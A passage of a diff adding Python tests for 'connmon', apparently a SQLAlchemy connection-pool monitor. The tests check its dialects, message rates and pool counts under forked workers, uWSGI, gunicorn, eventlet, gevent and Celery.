-        self.listener.close()
 
 
 def test_no_credentials_on_the_wire_and_none_to_the_driver(daemon, apps):
@@ -1060,9 +1710,1451 @@ def test_every_dialect_entry_point_is_installed():
     assert plugins == ["connmon:ConnmonPlugin"]
 
 
-# ---------------------------------------------------------------------------
-# Daemon and console behaviour
-# ---------------------------------------------------------------------------
+@pytest.mark.parametrize("name", sorted(connmon.DIALECT_ENTRY_POINTS))
+def test_dialect_classes_look_like_the_real_ones(name):
+    """Each <driver>_connmon dialect class is a subclass of the real one
+    with the real one's module and name (what SQLAlchemy's testing
+    provisioning and oslo.db key on)."""
+    from sqlalchemy.engine import make_url
+    backend, driver = name.split(".")
+    url = make_url(f"{backend}+{driver}://h/db?connmon_addr=127.0.0.1:1")
+    entry = getattr(connmon, connmon.DIALECT_ENTRY_POINTS[name])
+    ours = entry.get_dialect_cls(url)
+    real = url.set(drivername=entry.real_drivername).get_dialect()
+    assert issubclass(ours, real) and ours is not real
+    assert (ours.__module__, ours.name, ours.driver) == (
+        real.__module__, real.name, real.driver)
+    assert ours.__module__.startswith(f"sqlalchemy.dialects.")
+
+
+MARIADB_NAMES_SCRIPT = r"""
+import json, sys
+import sqlalchemy as sa
+
+engine = sa.create_engine(sys.argv[1])
+held = [engine.connect(), engine.connect()]
+version = held[0].execute(sa.text("SELECT VERSION()")).scalar()
+dialect = type(engine.dialect)
+mysqldb = sa.engine.make_url(sys.argv[1].replace("+pymysql_connmon",
+                                                 "+mysqldb_connmon"))
+real = sa.engine.make_url("mariadb+pymysql://").get_dialect()
+real_mysqldb = sa.engine.make_url("mariadb+mysqldb://").get_dialect()
+print(json.dumps([dialect.__module__ == real.__module__, engine.dialect.name,
+                  engine.dialect.is_mariadb, version,
+                  issubclass(dialect, real), issubclass(
+                      mysqldb.get_dialect(), real_mysqldb),
+                  mysqldb.get_dialect().__module__ == real_mysqldb.__module__,
+                  mysqldb.get_dialect().name]), flush=True)
+sys.stdin.read()
+"""
+
+
+def test_mariadb_names_against_real_mariadb(tmp_path, daemon):
+    """mariadb+pymysql_connmon and mariadb+mysqldb_connmon, registered as
+    ``python connmon.py --install-entry-points`` registers them (pip does
+    the same from setup.py): the real MariaDB dialects, monitored."""
+    require_database(MYSQL_URL)
+    site = tmp_path / "site"
+    site.mkdir()
+    result = subprocess.run(
+        [sys.executable, os.path.join(HERE, "connmon.py"),
+         "--install-entry-points", "--target", str(site)],
+        cwd=tmp_path, env=CHILD_ENV, capture_output=True, text=True,
+        timeout=60)
+    assert result.returncode == 0, result.stderr
+    from sqlalchemy.engine import make_url
+    url = make_url(MYSQL_URL).set(
+        drivername="mariadb+pymysql_connmon").update_query_dict(
+            {"connmon_addr": daemon.address}).render_as_string(
+                hide_password=False)
+    script = tmp_path / "mariadb_names.py"
+    script.write_text(MARIADB_NAMES_SCRIPT)
+    env = dict(CHILD_ENV, PYTHONPATH=os.pathsep.join(
+        [str(site), CHILD_ENV["PYTHONPATH"]]))
+    app = subprocess.Popen([sys.executable, str(script), url], cwd=tmp_path,
+                           env=env, text=True, stdin=subprocess.PIPE,
+                           stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    try:
+        line = app.stdout.readline()
+        assert line, app.stderr.read()
+        same_module, name, is_mariadb, version, *rest = json.loads(line)
+        assert (same_module, name, is_mariadb) == (True, "mariadb", True)
+        assert "MariaDB" in version
+        assert rest == [True, True, True, "mariadb"]   # subclasses; mysqldb
+        daemon.wait_row("mariadb_names.py", nproc=1, conn=2, ckout=2)
+    finally:
+        app.kill()
+        app.wait(10)
+
+
+# An application with two engines: the first (with the test's options)
+# holds connections on command, the second serves RATE requests a second
+# on a thread of its own ("serve RATE"), so that the process sends all the
+# time.  Times answered are the application's own (time.time()).
+RHYTHM_APP_SCRIPT = r'''
+import json, sys, threading, time
+import sqlalchemy as sa
+
+urls, options = json.loads(sys.argv[1]), json.loads(sys.argv[2])
+held_engine = sa.create_engine(urls[0], **options)
+served_engine = sa.create_engine(urls[1])
+held, waiter, timed_out = [], [], []
+
+def answer(*words):
+    print(*words, flush=True)
+
+def serve(rate):
+    next_at = time.monotonic()
+    while True:
+        with served_engine.connect() as conn:
+            conn.exec_driver_sql("SELECT 1").scalar()
+        next_at += 1 / rate
+        time.sleep(max(0.0, next_at - time.monotonic()))
+
+def wait_for_one(began):
+    began.set()
+    try:
+        held_engine.connect()
+    except sa.exc.TimeoutError:
+        timed_out.append(time.time())
+
+for line in sys.stdin:
+    cmd, *args = line.split()
+    if cmd == "serve":
+        threading.Thread(target=serve, args=(float(args[0]),),
+                         daemon=True).start()
+    elif cmd == "hold":
+        held.append(held_engine.connect())
+        answer("ok", time.time())
+        continue
+    elif cmd == "release":
+        held.pop().close()
+        answer("ok", time.time())
+        continue
+    elif cmd == "wait":   # one more checkout, on a thread: it waits
+        began = threading.Event()
+        waiter.append(threading.Thread(target=wait_for_one, args=(began,)))
+        waiter[-1].start()
+        began.wait()
+        answer("ok", time.time())
+        continue
+    elif cmd == "timed_out":
+        waiter[-1].join(30)
+        answer("ok", *timed_out)
+        continue
+    answer("ok")
+'''
+
+
+class RhythmApp(App):
+    source = RHYTHM_APP_SCRIPT
+
+
+def rhythm_app(apps, tmp_path, address: str, progname: str,
+               **options: Any) -> App:
+    """A RhythmApp reporting to ``address``, its engines on two SQLite
+    files, held.sqlite and served.sqlite."""
+    urls = [f"sqlite:///{tmp_path}/{name}.sqlite?plugin=connmon"
+            f"&connmon_addr={address}" for name in ("held", "served")]
+    return apps(json.dumps(urls), progname, app_class=RhythmApp, **options)
+
+
+def held_pool(daemon: Daemon, progname: str) -> Optional[dict]:
+    """The figures of the pool of a RhythmApp's first engine."""
+    row = daemon.row(progname, procs=True)
+    for proc in row["procs"] if row else ():
+        for pool in proc["pools"]:
+            if (pool["endpoint"] or {}).get("database", "").endswith(
+                    "held.sqlite"):
+                return pool
+    return None
+
+
+def seen_at(check: Callable[[], Any], what: str) -> float:
+    """When (time.time()) ``check`` was first seen true."""
+    return wait_until(lambda: check() and time.time(), 10, what)
+
+
+@pytest.mark.parametrize("rate", [10, 200])
+def test_about_a_message_a_second_and_the_picture_within_one(
+        rate, daemon, apps, tmp_path):
+    """A process serving 10 or 200 requests a second sends at most 1.5
+    messages a second (counted on the wire, pings included), and still a
+    connection it holds 4 s shows in the picture within 1.5 s, and leaves
+    it within 1.5 s of its checkin."""
+    relay = Relay(daemon.port)
+    progname = f"rhythm{rate}.py"
+    app = rhythm_app(apps, tmp_path, f"127.0.0.1:{relay.port}", progname)
+    app(f"serve {rate}")
+    wait_until(lambda: held_pool(daemon, progname), 10, "the app attached")
+
+    def messages() -> int:
+        with relay.lock:
+            return relay.received.count(b"\n")
+    counted_from, began = messages(), time.monotonic()
+    (checkout,) = map(float, app("hold"))
+    shown = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 1,
+                    "the held connection in the picture")
+    time.sleep(max(0.0, checkout + 4 - time.time()))   # (held 4 s)
+    (checkin,) = map(float, app("release"))
+    gone = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 0,
+                   "the held connection gone from the picture")
+    sent = (messages() - counted_from) / (time.monotonic() - began)
+    relay.close()
+    assert shown - checkout <= 1.5 and gone - checkin <= 1.5, (
+        shown - checkout, gone - checkin)
+    assert sent <= 1.5, f"{sent:.2f} messages a second at {rate} requests/s"
+
+
+def test_alarms_reach_the_picture_at_once(daemon, apps, tmp_path):
+    """While the process sends its once-a-second messages, a pool becoming
+    exhausted, a checkout waiting and its timeout each reach the picture
+    within 0.5 s."""
+    progname = "alarms.py"
+    app = rhythm_app(apps, tmp_path, daemon.address, progname, pool_size=2,
+                     max_overflow=0, pool_timeout=1)
+    app("serve 20")
+    app("hold")
+    wait_until(lambda: (held_pool(daemon, progname) or {}).get("ckout"),
+               10, "the first connection held")
+    (exhausted,) = map(float, app("hold"))
+    shown = seen_at(lambda: held_pool(daemon, progname)["ckout"] == 2,
+                    "the pool exhausted")
+    assert held_pool(daemon, progname)["limit"] == 2
+    (waiting,) = map(float, app("wait"))
+    waiting_shown = seen_at(lambda: daemon.row(progname)["waiting"] == 1,
+                            "a checkout waiting")
+    timeout_shown = seen_at(
+        lambda: daemon.row(progname)["timeouts_total"] == 1, "the timeout")
+    (timed_out,) = map(float, app("timed_out"))
+    lags = {"exhausted": shown - exhausted,
+            "waiting": waiting_shown - waiting,
+            "timeout": timeout_shown - timed_out}
+    assert all(lag <= 0.5 for lag in lags.values()), lags
+
+
+def test_counters_of_a_process_that_exits_all_arrive(daemon, apps,
+                                                     tmp_path):
+    """1,000 checkouts, then a normal exit at once: the last ones, not yet
+    due for sending, are sent as the process exits."""
+    app = apps(f"sqlite:///{tmp_path}/exits.sqlite?plugin=connmon"
+               f"&connmon_addr={daemon.address}", "exits.py")
+    app("query 1000")
+    app.proc.stdin.write("exit\n")
+    app.proc.stdin.flush()
+    assert app.proc.wait(10) == 0
+    daemon.wait_row("exits.py", connected=False, ckout_total=1000)
+
+
+PLAIN_URLS = {"sqlite": None, "mariadb": MYSQL_URL,
+              "postgresql": POSTGRESQL_URL}
+
+
+def plain_url(backend: str, tmp_path) -> str:
+    """A URL of ``backend`` without connmon (a file database for SQLite)."""
+    url = PLAIN_URLS[backend]
+    if url is None:
+        return f"sqlite+pysqlite:///{tmp_path}/plain.sqlite"
+    require_database(url)
+    return url
+
+
+def driver_parameters(engine) -> List[Dict[str, Any]]:
+    """The keyword arguments each new connection of ``engine`` hands its
+    DBAPI driver, as the dialect's do_connect event sees them."""
+    from sqlalchemy import event
+    seen: List[Dict[str, Any]] = []
+    event.listen(engine, "do_connect",
+                 lambda dialect, rec, cargs, cparams: seen.append(
+                     dict(cparams)))
+    return seen
+
+
+@pytest.mark.parametrize("backend", ["sqlite", "mariadb", "postgresql"])
+def test_connmon_engine_url_reused_with_a_plain_driver_connects(
+        backend, daemon, tmp_path):
+    import sqlalchemy as sa
+    url = plain_url(backend, tmp_path)
+    engine = sa.create_engine(monitored(url, daemon, "dialect"))
+    assert engine.url.drivername.endswith("_connmon")
+    assert not [key for key in engine.url.query if key.startswith("connmon")]
+    with engine.connect() as conn:   # the settings went to connmon all the
+        daemon.wait_row(connmon.progname(), conn=1, ckout=1)   # same
+        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
+    plain_drivername = sa.engine.make_url(url).drivername
+    reused = sa.create_engine(engine.url.set(drivername=plain_drivername))
+    cparams = driver_parameters(reused)
+    with reused.connect() as conn:
+        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
+    assert len(cparams) == 1
+    assert not [key for key in cparams[0] if key.startswith("connmon")]
+    reused.dispose()
+    engine.dispose()
+    daemon.wait_row(connmon.progname(), conn=0)
+
+
+@pytest.mark.parametrize("form", ["dialect", "plugin"])
+def test_engine_url_keeps_no_connmon_parameter_in_either_form(
+        form, daemon, tmp_path):
+    import sqlalchemy as sa
+    url = monitored(f"sqlite+pysqlite:///{tmp_path}/u.sqlite?timeout=7",
+                    daemon, form) + "&connmon_sites=0&connmon_endpoint=1"
+    engine = sa.create_engine(url)
+    assert dict(engine.url.query) == {"timeout": "7"}   # the app's stays
+    cparams = driver_parameters(engine)
+    with engine.connect():
+        daemon.wait_row(connmon.progname(), conn=1, ckout=1)
+    assert cparams[0]["timeout"] == 7.0
+    assert not [key for key in cparams[0] if key.startswith("connmon")]
+    assert engine.execution_options(x=1).url == engine.url
+    engine.dispose()
+    daemon.wait_row(connmon.progname(), conn=0)
+
+
+def test_create_connect_args_passes_on_what_its_base_accepts(daemon,
+                                                             tmp_path):
+    """As the MySQL dialects' own subclasses call it (asyncmy's passes
+    _translate_args), and with a stand-in URL (SQLAlchemy's OnConnectTest
+    makes its engine from a Mock)."""
+    from unittest import mock
+    import sqlalchemy as sa
+    require_database(MYSQL_URL)
+    url = sa.engine.make_url(monitored(MYSQL_URL, daemon))
+    monitored_dialect = type(sa.create_engine(url).dialect)
+
+    class Renaming(monitored_dialect):
+        def create_connect_args(self, url):
+            return super().create_connect_args(
+                url, _translate_args=dict(username="user", database="db"))
+
+    dialect = Renaming(dbapi=monitored_dialect.import_dbapi())
+    cargs, cparams = dialect.create_connect_args(url)
+    assert cparams["user"] == "root" and cparams["db"] == "test"
+    assert not [key for key in cparams if key.startswith("connmon")]
+    with pytest.warns(DeprecationWarning, match="'db' is deprecated"):
+        connection = dialect.connect(*cargs, **cparams)   # the real driver
+    connection.close()
+
+    sqlite_dialect = type(sa.create_engine(
+        sqlite_url(tmp_path, daemon)).dialect)
+    initialized = []
+
+    class Initializing(sqlite_dialect):
+        supports_statement_cache = True
+
+        def initialize(self, connection):
+            super().initialize(connection)
+            initialized.append(connection)
+
+    stand_in = mock.Mock(
+        username=None, password=None, host=None, port=None, query={},
+        database=None, _instantiate_plugins=lambda kw: (stand_in, [], kw),
+        _get_entrypoint=mock.Mock(return_value=mock.Mock(
+            get_dialect_cls=lambda u: Initializing)))
+    engine = sa.create_engine(stand_in, poolclass=sa.pool.QueuePool)
+    assert engine.name == "sqlite"
+    with engine.connect() as conn:
+        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
+    assert len(initialized) == 1
+    assert engine.url is stand_in   # left alone: it has no connmon_*
+    engine.dispose()
+
+
+@pytest.mark.parametrize("form", ["dialect", "plugin"])
+def test_pool_connect_patches_are_called_and_their_undoing_honoured(
+        form, daemon, tmp_path):
+    from unittest import mock
+    import sqlalchemy as sa
+    from sqlalchemy.pool import Pool, QueuePool
+    url = monitored(f"sqlite+pysqlite:///{tmp_path}/p.sqlite", daemon, form)
+    pool_connect = QueuePool.connect
+    with mock.patch.object(QueuePool, "connect", autospec=True,
+                           side_effect=pool_connect) as patched:
+        engine = sa.create_engine(url)   # made while patched
+        assert isinstance(engine.pool, (QueuePool, connmon.MeasuredPool))
+        with engine.connect():
+            daemon.wait_row(connmon.progname(), conn=1, ckout=1)
+        assert patched.call_count == 1
+        assert patched.call_args.args == (engine.pool,)
+    engine.connect().close()
+    assert patched.call_count == 1   # undone: no longer called
+    wrapped = []
+
+    def apm_connect(pool):   # an APM agent's wrapper of Pool.connect
+        wrapped.append(pool)
+        return pool_connect(pool)
+
+    with mock.patch.object(Pool, "connect", apm_connect):
+        with engine.connect():
+            daemon.wait_row(connmon.progname(), conn=1, ckout=1)
+    assert wrapped == [engine.pool]
+    daemon.wait_row(connmon.progname(), conn=1, ckout=0)
+    with mock.patch.object(QueuePool, "connect") as bare:   # no connection
+        engine.connect().close()                           # behind it
+    bare.assert_called_once_with()   # bound as plain SQLAlchemy binds it
+    with engine.connect() as conn:   # and still monitored as it was
+        assert conn.execute(sa.text("SELECT 1")).scalar() == 1
+        daemon.wait_row(connmon.progname(), conn=1, ckout=1)
+    engine.dispose()
+    daemon.wait_row(connmon.progname(), conn=0)
+
+
+@pytest.mark.parametrize("form", ["dialect", "plugin"])
+def test_info_dictionaries_equal_plain_sqlalchemys(form, daemon, tmp_path):
+    import sqlalchemy as sa
+    from sqlalchemy import event
+    db = f"sqlite+pysqlite:///{tmp_path}/i.sqlite"
+    engines = {"plain": sa.create_engine(db),
+               "monitored": sa.create_engine(monitored(db, daemon, form))}
+    seen: Dict[str, List[tuple]] = {name: [] for name in engines}
+    for name, engine in engines.items():
+        event.listen(engine, "checkout",
+                     lambda dbapi, record, proxy, name=name: seen[name].append(
+                         (dict(record.info), dict(record.record_info))))
+        for round_ in range(2):   # a new connection, then the pooled one
+            with engine.connect() as conn:
+                seen[name].append((dict(conn.info),
+                                   dict(conn.connection.info),
+                                   dict(conn.connection.record_info)))
+                conn.info["app"] = round_   # the application's own state
+            with engine.connect() as conn:
+                seen[name].append((dict(conn.info),))
+                del conn.info["app"]
+        detached = engine.connect()
+        detached.detach()
+        seen[name].append((dict(detached.info),))
+        detached.close()
+    assert seen["monitored"] == seen["plain"]
+    assert seen["plain"][:2] == [({}, {}), ({}, {}, {})]
+    assert len(seen["plain"]) == 10   # 5 checkouts, listener and block
+    daemon.wait_row(connmon.progname(), conn=0, ckout=0)   # (the detached
+    for engine in engines.values():                       # one is closed)
+        engine.dispose()
+
+
+# ===========================================================================
+# Runtimes and app servers
+#
+# Every runtime is a first-class host: uWSGI workers, spooler and master,
+# gunicorn, Celery's prefork pool, eventlet and gevent (over TLS, with the
+# hub blocked), asyncio engines, and workers forked with C fork() or
+# os.fork().
+# ===========================================================================
+
+
+def test_forked_workers(daemon, apps):
+    require_database(MYSQL_URL)
+    app = apps(monitored(MYSQL_URL, daemon), "forking.py", pool_size=3,
+               max_overflow=0)
+    workers = app.fork(8)
+    held = {pid: i % 3 + 1 for i, pid in enumerate(workers)}
+    total = sum(held.values())
+    # The parent made the engine but never used it: it started no thread
+    # and is not a process of the program (see docs/configuration.txt, "Forked workers").
+    # Each worker announces its pool's capacity, 3.
+    row = daemon.wait_row("forking.py", procs=True, nproc=8, conn=total,
+                          ckout=total, limit=8 * 3)
+    by_pid = {p["pid"]: (p["conn"], p["ckout"], p["limit"], p["exhausted"])
+              for p in row["procs"]}
+    assert by_pid == {pid: (n, n, 3, n == 3) for pid, n in held.items()}
+    assert not row["exhausted"]
+
+    victim = workers[2]
+    os.kill(victim, signal.SIGKILL)
+    row = daemon.wait_row("forking.py", procs=True, nproc=7,
+                          conn=total - held[victim])
+    assert victim not in {p["pid"] for p in row["procs"]}
+
+    app.stop()   # the parent and all its workers
+    row = daemon.wait_row("forking.py", connected=False, nproc=0, conn=0,
+                          ckout=0)
+    assert (row["maxnproc"], row["maxconn"], row["maxckout"]) == (
+        8, total, total)
+
+
+# One WSGI application for every server.  Its engine is made at import
+# (in a preforking server's master, before the fork, as OpenStack API
+# services do), optionally after monkey-patching.  GET /work holds, on a
+# worker's first request, pid % 3 + 1 connections for good and runs a
+# query; GET /pid only reports.  Both answer the worker's pid and its
+# pool's own counts: the truth connmon is compared with.
+WSGI_APP = r'''
+import json, os, threading, time
+PATCH = {patch!r}
+if PATCH == "eventlet":
+    import eventlet
+    eventlet.monkey_patch()
+elif PATCH == "eventlet-after-connmon":
+    import connmon
+    import eventlet
+    eventlet.monkey_patch()
+elif PATCH == "eventlet-os-false":
+    import eventlet
+    eventlet.monkey_patch(os=False)
+elif PATCH == "gevent":
+    from gevent import monkey
+    monkey.patch_all()
+import sqlalchemy as sa
+
+engine = sa.create_engine({url!r}, pool_size={pool_size}, max_overflow=0)
+if {use_at_load!r}:   # a look at the database while loading, then let go
+    with engine.connect() as conn:
+        conn.execute(sa.text("SELECT 1"))
+    engine.dispose()
+held = []
+first = threading.Lock()
+
+def counts():
+    out = engine.pool.checkedout()
+    return {{"pid": os.getpid(), "conn": out + engine.pool.checkedin(),
+             "ckout": out, "limit": engine.pool.size()}}
+
+def application(environ, start_response):
+    if environ["PATH_INFO"] == "/work":
+        with first:
+            if not held:
+                for _ in range(os.getpid() % 3 + 1):
+                    held.append(engine.connect())
+                    held[-1].execute(sa.text("SELECT 1"))
+        with engine.connect() as conn:
+            conn.execute(sa.text("SELECT SLEEP(0.02)"))
+    else:
+        time.sleep(0.02)   # spreads concurrent probes over the workers
+    body = json.dumps(counts()).encode()
+    start_response("200 OK", [("Content-Type", "application/json"),
+                              ("Content-Length", str(len(body)))])
+    return [body]
+
+def serve_gevent(port):
+    from gevent.pywsgi import WSGIServer
+    WSGIServer(("127.0.0.1", port), application, log=None).serve_forever()
+
+def serve_oslo(port, workers):
+    """oslo.service's eventlet ProcessLauncher, as OpenStack API services
+    ran: the socket and the engine made in the parent, workers forked."""
+    import eventlet.wsgi
+    from oslo_config import cfg
+    from oslo_service import service
+    sock = eventlet.listen(("127.0.0.1", port))
+
+    class WSGIService(service.ServiceBase):
+        def start(self):
+            eventlet.spawn(eventlet.wsgi.server, sock, application,
+                           log_output=False)
+        def stop(self):
+            pass
+        def wait(self):
+            pass
+        def reset(self):
+            pass
+
+    cfg.CONF([], project="connmon-test")
+    launcher = service.ProcessLauncher(cfg.CONF, restart_method="mutate")
+    launcher.launch_service(WSGIService(), workers=workers)
+    launcher.wait()
+
+if __name__ == "__main__":
+    import sys
+    if sys.argv[1] == "gevent":
+        serve_gevent(int(sys.argv[2]))
+    else:
+        serve_oslo(int(sys.argv[2]), int(sys.argv[3]))
+'''
+
+POOL_SIZE = 8
+
+
+def write_wsgi_app(tmp_path, daemon: Daemon, patch: str = "",
+                   use_at_load: bool = False,
+                   name: str = "connmon_wsgi_app") -> pathlib.Path:
+    """The WSGI application file, monitored by ``daemon``."""
+    path = tmp_path / f"{name}.py"
+    path.write_text(WSGI_APP.format(
+        patch=patch, url=monitored(MYSQL_URL, daemon, "plugin"),
+        pool_size=POOL_SIZE, use_at_load=use_at_load))
+    return path
+
+
+class Server:
+    """A real app server subprocess (serving HTTP on a free loopback
+    port), killed with its whole process group.  ``answers`` is what
+    check_server asks it."""
+
+    def __init__(self, tmp_path, argv: List[str], port: int = 0):
+        self.port = port
+        self.log = tmp_path / "server.log"
+        env = dict(CHILD_ENV, PYTHONPATH=os.pathsep.join(
+            [str(tmp_path), CHILD_ENV["PYTHONPATH"]]))
+        self.proc = subprocess.Popen(
+            argv, cwd=tmp_path, env=env, stdin=subprocess.DEVNULL,
+            stdout=open(self.log, "ab"), stderr=subprocess.STDOUT,
+            start_new_session=True)
+
+    def get(self, path: str) -> Dict[str, Any]:
+        import urllib.request
+        with urllib.request.urlopen(f"http://127.0.0.1:{self.port}{path}",
+                                    timeout=5) as reply:
+            return json.loads(reply.read())
+
+    def answers(self, path: str, concurrency: int = 8) -> List[dict]:
+        """``concurrency`` requests at once; the answers that came."""
+        replies: List[dict] = []
+
+        def one():
+            try:
+                replies.append(self.get(path))
+            except OSError:
+                pass
+        threads = [threading.Thread(target=one) for _ in range(concurrency)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(10)
+        return replies
+
+    def stop(self) -> None:
+        kill_group(self.proc)
+
+    def log_tail(self) -> str:
+        return self.log.read_text(errors="replace")[-3000:]
+
+
+def check_server(server: Server, daemon: Daemon, progname: str,
+                 workers: int, timeout: float = 40.0) -> None:
+    """Have every worker of the started ``server`` answer (HTTP requests,
+    Celery tasks), then compare connmon's per-pid picture with each
+    worker's own pool counts; stop the server.  A worker that never
+    answers (deadlocked) fails the wait."""
+    try:
+        seen: Dict[int, dict] = {}
+
+        def every_worker_served():
+            if server.proc.poll() is not None:
+                raise AssertionError(f"server exited: {server.log_tail()}")
+            seen.update((r["pid"], r) for r in server.answers("/work"))
+            return len(seen) >= workers
+        try:
+            wait_until(every_worker_served, timeout,
+                       f"{workers} workers to answer")
+        except AssertionError as err:
+            raise AssertionError(f"{err}; answered: {sorted(seen)}\n"
+                                 f"{server.log_tail()}") from None
+        assert len(seen) == workers, seen
+        truth: Dict[int, tuple] = {}
+        picture: Dict[int, tuple] = {}
+
+        def pictures_agree():
+            truth.update((r["pid"], (r["conn"], r["ckout"], r["limit"]))
+                         for r in server.answers("/pid"))
+            row = daemon.row(progname, procs=True)
+            picture.clear()
+            picture.update((p["pid"], (p["conn"], p["ckout"], p["limit"]))
+                           for p in (row or {}).get("procs", []))
+            return set(truth) == set(seen) and picture == truth
+        try:
+            wait_until(pictures_agree, 20, "connmon's picture to equal "
+                       "the workers' pools")
+        except AssertionError:
+            raise AssertionError(f"connmon {picture} != pools {truth}\n"
+                                 f"{server.log_tail()}") from None
+        # Each worker's first request held pid % 3 + 1 for good.
+        assert {pid: t[1] for pid, t in truth.items()} == {
+            pid: pid % 3 + 1 for pid in seen}
+        row = daemon.row(progname)
+        assert (row["nproc"], row["limit"], row["exhausted"]) == (
+            workers, workers * POOL_SIZE, False)
+        log = server.log_tail()
+        assert "Traceback" not in log and "connmon:" not in log, log
+        assert server.log.stat().st_size < 64 << 10, "a flooded log"
+    finally:
+        server.stop()
+
+
+UWSGI_MODES = {
+    "default": [],
+    "lazy-apps": ["--lazy-apps"],
+    "enable-threads": ["--enable-threads"],
+    "fork-hooks": ["--py-call-uwsgi-fork-hooks"],
+    "osafterfork": ["--py-call-osafterfork"],
+}
+
+
+# Several starts of the modes that deadlocked, each with an application
+# that looks at the database while the master loads it.
+@pytest.mark.parametrize("mode, start", [
+    (mode, start) for mode in UWSGI_MODES
+    for start in range(3 if mode in ("default", "osafterfork") else 1)])
+def test_uwsgi_workers_are_counted_and_never_deadlock(tmp_path, mode, start):
+    require_database(MYSQL_URL)
+    daemon = Daemon(tmp_path)
+    try:
+        app = write_wsgi_app(tmp_path, daemon, use_at_load=True)
+        port = free_port()
+        check_server(Server(tmp_path, [
+            "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
+            "--processes", "4", "--wsgi-file", str(app), "--die-on-term",
+            "--disable-logging", *UWSGI_MODES[mode]], port), daemon,
+            "uwsgi", 4)
+    finally:
+        daemon.stop()
+
+
+# The WSGI application, and a spooler function that holds two connections
+# for good (the first time) and writes its pid and pool counts where the
+# task says; GET /spool?PATH enqueues such a task.
+SPOOLER_PART = r'''
+import uwsgi
+
+def spool_task(env):
+    if not held:
+        held.extend(engine.connect() for _ in range(2))
+    with open(env[b"report"], "w") as report:
+        json.dump(counts(), report)
+    return uwsgi.SPOOL_OK
+
+uwsgi.spooler = spool_task
+serve = application
+
+def application(environ, start_response):
+    if environ["PATH_INFO"] == "/spool":
+        uwsgi.spool({b"report": environ["QUERY_STRING"].encode()})
+    return serve(environ, start_response)
+'''
+
+
+def test_uwsgi_spooler_is_counted(tmp_path):
+    """A spooler, forked with C fork() from the master that loaded the
+    application, is listed as its own process with its pool's counts."""
+    require_database(MYSQL_URL)
+    daemon = Daemon(tmp_path)
+    try:
+        app = write_wsgi_app(tmp_path, daemon, use_at_load=True)
+        app.write_text(app.read_text() + SPOOLER_PART)
+        spool, report = tmp_path / "spool", tmp_path / "report.json"
+        spool.mkdir()
+        port = free_port()
+        server = Server(tmp_path, [
+            "uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
+            "--processes", "2", "--spooler", str(spool), "--wsgi-file",
+            str(app), "--die-on-term", "--disable-logging"], port)
+        try:
+            wait_until(lambda: server.answers(f"/spool?{report}", 1), 40,
+                       "uWSGI to serve")
+            wait_until(report.exists, 20, "the spooler to run the task")
+            truth = json.loads(report.read_text())
+            assert (truth["conn"], truth["ckout"]) == (2, 2)
+            workers = {r["pid"] for r in server.answers("/pid", 8)}
+            assert truth["pid"] not in workers
+
+            def spooler_listed():
+                row = daemon.row("uwsgi", procs=True) or {}
+                return {p["pid"]: (p["conn"], p["ckout"], p["limit"])
+                        for p in row.get("procs", [])}.get(truth["pid"])
+            wait_until(lambda: spooler_listed() == (2, 2, POOL_SIZE), 20,
+                       "the spooler to be listed with its counts")
+            log = server.log_tail()
+            assert "Traceback" not in log and "connmon:" not in log, log
+        finally:
+            server.stop()
+    finally:
+        daemon.stop()
+
+
+# With --preload the master imports the application (the engine is made
+# before the fork); without it each worker imports it after the fork.
+@pytest.mark.parametrize("worker, preload", [
+    ("sync", True), ("sync", False), ("gthread", True), ("gevent", True),
+    ("gevent", False)])
+def test_gunicorn_workers_are_counted(tmp_path, worker, preload):
+    require_database(MYSQL_URL)
+    daemon = Daemon(tmp_path)
+    try:
+        write_wsgi_app(tmp_path, daemon,
+                       patch="gevent" if worker == "gevent" else "")
+        port = free_port()
+        check_server(Server(tmp_path, [
+            "gunicorn", *(["--preload"] if preload else []), "-w", "3",
+            "-k", worker, *(["--threads", "4"] if worker == "gthread" else []),
+            "-b", f"127.0.0.1:{port}",
+            "connmon_wsgi_app:application"], port), daemon, "gunicorn", 3)
+    finally:
+        daemon.stop()
+
+
+@pytest.mark.parametrize("patch", ["eventlet", "eventlet-after-connmon",
+                                   "eventlet-os-false"])
+def test_eventlet_oslo_service_workers_are_counted(tmp_path, patch):
+    require_database(MYSQL_URL)
+    require_module("oslo_service")
+    daemon = Daemon(tmp_path)
+    try:
+        app = write_wsgi_app(tmp_path, daemon, patch=patch)
+        port = free_port()
+        check_server(Server(tmp_path, [
+            sys.executable, str(app), "oslo", str(port), "2"], port), daemon,
+            app.name, 2)
+    finally:
+        daemon.stop()
+
+
+def test_gevent_patch_all_app_is_counted(tmp_path):
+    require_database(MYSQL_URL)
+    daemon = Daemon(tmp_path)
+    try:
+        app = write_wsgi_app(tmp_path, daemon, patch="gevent")
+        port = free_port()
+        check_server(Server(tmp_path, [
+            sys.executable, str(app), "gevent", str(port)], port), daemon,
+            app.name, 1)
+    finally:
+        daemon.stop()
+
+
+# A Celery app whose tasks answer as the WSGI application's requests do,
+# with its engine: made when the worker's main process imports the app,
+# before the prefork pool forks its children.  The broker and the result
+# backend are folders (kombu's filesystem transport, Celery's file://
+# backend): no service to run.
+CELERY_APP = r"""
+import json
+from celery import Celery
+import connmon_wsgi_app
+
+app = Celery("connmon_celery_app")
+app.conf.update({config!r})
+
+@app.task(name="answer")
+def answer(path):
+    body = connmon_wsgi_app.application({{"PATH_INFO": path}},
+                                        lambda status, headers: None)
+    return json.loads(b"".join(body))
+"""
+
+
+class CeleryWorker(Server):
+    """A real Celery worker with a prefork pool of ``concurrency``
+    children, its app's engine monitored by ``daemon``; the test sends it
+    tasks through its folders."""
+
+    def __init__(self, tmp_path, daemon: Daemon, concurrency: int):
+        import celery
+        folders = {name: tmp_path / "celery" / name for name in
+                   ("queue", "processed", "control", "results")}
+        for folder in folders.values():
+            folder.mkdir(parents=True)
+        config = {
+            "broker_url": "filesystem://",
+            "broker_transport_options": {
+                "data_folder_in": str(folders["queue"]),
+                "data_folder_out": str(folders["queue"]),
+                "store_processed": True,
+                "processed_folder": str(folders["processed"]),
+                "control_folder": str(folders["control"]),
+                "polling_interval": 0.02},
+            "broker_connection_retry_on_startup": True,
+            "result_backend": f"file://{folders['results']}",
+            "worker_prefetch_multiplier": 1}
